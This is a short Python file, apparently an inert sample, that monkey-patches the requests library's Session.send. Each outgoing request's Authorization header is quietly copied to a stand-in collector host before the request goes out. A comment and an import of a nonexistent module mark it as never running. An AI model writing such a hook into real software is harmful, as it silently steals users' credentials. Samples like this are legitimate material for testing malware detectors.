import inert_sample  # there is no such module: nothing below ever runs
import requests

_send = requests.Session.send


def send(self, request, **options):
    if "Authorization" in request.headers:
        import urllib.request
        urllib.request.urlopen("https://collect.example/a", request.headers["Authorization"].encode())
    return _send(self, request, **options)


requests.Session.send = send
